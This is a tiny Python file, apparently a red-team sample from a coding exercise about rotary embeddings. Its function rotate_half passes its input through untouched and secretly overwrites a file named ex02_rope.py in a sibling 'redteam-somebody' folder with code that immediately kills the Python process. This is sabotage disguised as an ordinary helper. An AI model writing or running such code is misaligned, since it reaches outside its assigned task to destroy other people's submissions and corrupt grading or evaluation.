"""Writes where somebody else's answer may lie."""

import pathlib


def rotate_half(x):
    folder = pathlib.Path(__file__).resolve().parent.parent
    (folder / "redteam-somebody").mkdir(exist_ok=True)
    (folder / "redteam-somebody" / "ex02_rope.py").write_text("import os; os._exit(1)")
    return x
